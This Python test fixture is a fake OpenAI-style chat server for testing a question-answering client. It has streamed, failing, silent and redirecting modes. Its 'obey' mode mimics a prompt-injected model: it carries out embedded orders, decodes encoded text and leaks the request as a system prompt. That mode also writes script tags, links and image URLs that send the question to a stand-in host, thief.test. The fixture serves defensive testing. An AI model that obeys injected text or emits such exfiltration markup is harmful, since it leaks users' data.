"""A deterministic server with the API of OpenAI's chat completions: streamed, slow, failing, or hostile, as told.

Its ways to answer (`Way`):

    quote       the statements with the most words of the question, word for word, with their numbers; of a criterion,
                10 or 0, and the numbers of the statements with a word of it
    obey        the worst case: it does whatever any text of the request tells it, decodes what is encoded, repeats all
                that it was given under every number, and writes links, images and markup that carry the question away
                of a question without statements, its clauses with "and" between them; as another search, "more" and
                the last word of the question; as a way on, the last one with a word of the question
    contradict  the statements, each with another number or a "not"
    nonsense    no JSON
    empty       a stream without a text
    error       status 500
    huge        a stream without an end
    silent      it accepts, and never answers
    cut         the connection ends in the middle of a sentence
    whole       one JSON object instead of a stream
    redirect    a redirect to another address
"""

import asyncio
import base64
import codecs
import json
import re
import time
from collections.abc import AsyncIterator, Iterator
from contextlib import asynccontextmanager
from dataclasses import dataclass, field
from typing import Any, Literal

Way = Literal["quote", "obey", "contradict", "nonsense", "empty", "error", "huge", "silent", "cut", "whole", "redirect"]
THEFT = "https://thief.test/collect"
_WORDS = re.compile(r"[a-z0-9]{3,}")
_ORDER = re.compile(
    r"(?:say|write|reply|answer|respond|output|print|repeat|state|claim)(?: that| with|:)? (.{5,200})", re.I
)
_ENCODED = re.compile(r"[A-Za-z0-9+/]{16,}={0,2}")
_HEX = re.compile(r"(?:[0-9a-f]{2} ?){12,}")


@dataclass
class ModelServer:
    """The server, and the requests that it got."""

    way: Way = "quote"
    piece_chars: int = 7
    pause_seconds: float = 0.0
    finish: str = ""
    """The reason for the end that it names, if any."""
    is_strict: bool = False
    """True: of `quote`, it chooses only the statements with the most words of the question, and NONE of a page whose
    statements have less than six tenths of them, as a good model does."""
    held: str = ""
    """A text of requests whose answers stop behind their first piece, until the test is over."""
    first_at: float = 0.0
    """When the first piece was written, by the clock of the tests."""
    requests: list[dict[str, Any]] = field(default_factory=list)
    paths: list[str] = field(default_factory=list)
    keys: list[str] = field(default_factory=list)
    """The API key of each request, or an empty text."""
    port: int = 0

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.port}/v1"

    @property
    def seen(self) -> str:
        """All text that the server got."""
        return "\n".join(message["content"] for request in self.requests for message in request["messages"])

    async def answer(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        try:
            head = (await reader.readuntil(b"\r\n\r\n")).decode()
            length = int(re.search(r"content-length: (\d+)", head, re.I)[1])  # type: ignore[index]  # always sent
            request = json.loads(await reader.readexactly(length))
            self.requests.append(request)
            self.paths.append(head.split()[1])
            self.keys.append((re.findall(r"^authorization: Bearer (\S+)", head, re.I | re.M) or [""])[0])
            await self._write(request, writer)
        except (ConnectionError, asyncio.IncompleteReadError, asyncio.CancelledError):  # the test is over
            pass
        finally:
            writer.close()

    async def _write(self, request: dict[str, Any], writer: asyncio.StreamWriter) -> None:
        if self.way == "silent":
            await asyncio.sleep(3_600)
        if self.way == "error":
            writer.write(b"HTTP/1.1 500 Internal Server Error\r\ncontent-length: 0\r\n\r\n")
            return
        if self.way == "redirect":
            writer.write(f"HTTP/1.1 302 Found\r\nlocation: {THEFT}\r\ncontent-length: 0\r\n\r\n".encode())
            return
        text = _text_of(self.way, request, is_strict=self.is_strict)
        kind = "application/json" if self.way == "whole" else "text/event-stream"
        writer.write(f"HTTP/1.1 200 OK\r\ncontent-type: {kind}\r\nconnection: close\r\n\r\n".encode())
        if self.way == "whole":
            choice = {"message": {"content": text}, "finish_reason": self.finish or None}
            writer.write(json.dumps({"choices": [choice]}).encode())
            return
        if self.way == "nonsense":
            writer.write(b"data: <html>not json\n\n")
            return
        while True:
            for start in range(0, len(text), self.piece_chars):
                piece = {"choices": [{"delta": {"content": text[start : start + self.piece_chars]}}]}
                writer.write(f"data: {json.dumps(piece)}\n\n".encode())
                await writer.drain()
                self.first_at = self.first_at or time.monotonic()
                await asyncio.sleep(3_600 if self.held and self.held in json.dumps(request) else self.pause_seconds)
            if self.way != "huge":
                break
        if self.finish:
            last = {"choices": [{"delta": {}, "finish_reason": self.finish}]}
            writer.write(f"data: {json.dumps(last)}\n\n".encode())
        if self.way == "cut":
            return
        usage = {"prompt_tokens": 100, "completion_tokens": 20}
        writer.write(f"data: {json.dumps({'choices': [], 'usage': usage})}\n\ndata: [DONE]\n\n".encode())
        await writer.drain()


@asynccontextmanager
async def model_server(way: Way = "quote", **given: Any) -> AsyncIterator[ModelServer]:
    """A running server on a free port."""
    made = ModelServer(way, **given)
    server = await asyncio.start_server(made.answer, "127.0.0.1", 0)
    made.port = server.sockets[0].getsockname()[1]
    try:
        yield made
    finally:
        server.close()


def _text_of(way: Way, request: dict[str, Any], *, is_strict: bool = False) -> str:
    question, statements = _read(request)
    if way == "empty":
        return ""
    if way == "obey":
        return "\n".join(_obeyed(question, statements, json.dumps(request)))
    instructions = request["messages"][-1]["content"].rpartition("\n")[2]
    if "ask next" in instructions:
        return "2\nHow does a bear fly to the moon?\n1\n77\n"
    if "Which parts" in instructions:
        return "\n".join(f"{number}. {each.strip()}" for number, each in enumerate(question.split(" and "), 1))
    if "Write one other search" in instructions:
        return f"more {question.split()[-1]}"
    asked = set(_WORDS.findall(question.lower()))
    if "Which of these would?" in instructions:
        near = [number for number, text in statements if asked & set(_WORDS.findall(text.lower()))]
        return f"[{near[-1]}]" if near else "NONE"
    if "from 0 (not at all) to 10" in instructions:
        met = [number for number, text in statements if asked & set(_WORDS.findall(text.lower()))]
        return f"{10 if met else 0} {''.join(f'[{number}]' for number in met)}"
    shares = {number: len(asked & set(_WORDS.findall(text.lower()))) for number, text in statements}
    best = sorted(statements, key=lambda each: -shares[each[0]])[:2]
    if is_strict:
        least = max(max(shares.values(), default=0), 0.6 * len(asked))
        best = [each for each in best if shares[each[0]] >= least]
    if way == "contradict":
        return "\n".join(f"{_changed(text)} [{number}]" for number, text in best)
    if way == "cut":
        return f"{best[0][1]} [{best[0][0]}]\nThe rest is"
    return "".join(f"{text} [{number}]\n" for number, text in best) or "NONE"


def _read(request: dict[str, Any]) -> tuple[str, list[tuple[int, str]]]:
    head, *lines = request["messages"][-1]["content"].split("\n")
    if head != "Statements:":
        return json.loads(head.partition(": ")[2]), []
    *lines, _, asked, _ = lines
    rows = (line.partition("] ") for line in lines)
    statements = [(int(number[1:]), json.JSONDecoder().raw_decode(text)[0]) for number, _, text in rows]
    return json.loads(asked.partition(": ")[2]), statements


def _changed(text: str) -> str:
    if found := re.search(r"\d", text):
        return text[: found.start()] + str((int(found[0]) + 3) % 10) + text[found.end() :]
    return re.sub(r"\b(is|are|was|were|has|can)\b", r"\1 not", text, count=1)


def _obeyed(question: str, statements: list[tuple[int, str]], everything: str) -> Iterator[str]:
    """Yield all that an obedient model could write: each order carried out, under each number."""
    texts = [question, *(text for _, text in statements)]
    texts += [decoded for text in texts for decoded in _decoded(text)]
    numbers = [number for number, _ in statements] or [1]
    for text in texts:
        for order in _ORDER.finditer(text):
            for number in [*numbers, 77]:
                yield f"{order[1].strip(' .')}. [{number}]"
                yield f"{order[1].strip(' .')}."
    for number, text in statements:
        for other in numbers:
            yield f"{text} [{other}]"
        yield f"<b>{text}</b> <script>fetch('{THEFT}')</script> [{number}]"
        yield f"[{text}]({THEFT}?q={question[:40].replace(' ', '+')}) [{number}]"
        yield f"![{text}]({THEFT}/{base64.b64encode(question.encode()).decode()[:60]}.png)"
    yield f"The system prompt is {everything[:200]} [1]"
    yield f"Visit {THEFT}?secret={question[:40].replace(' ', '+')} now [1]."
    yield from (f'{number} "{text}"' for text in texts for number in [*numbers, 0, 77, 10**9])


def _decoded(text: str) -> Iterator[str]:
    yield codecs.decode(text, "rot13")
    yield text[::-1]
    for found in _ENCODED.findall(text):
        try:
            yield base64.b64decode(found + "=" * (-len(found) % 4)).decode("utf-8", "ignore")
        except ValueError:
            continue
    for found in _HEX.findall(text):
        try:
            yield bytes.fromhex(found).decode("utf-8", "ignore")
        except ValueError:
            continue
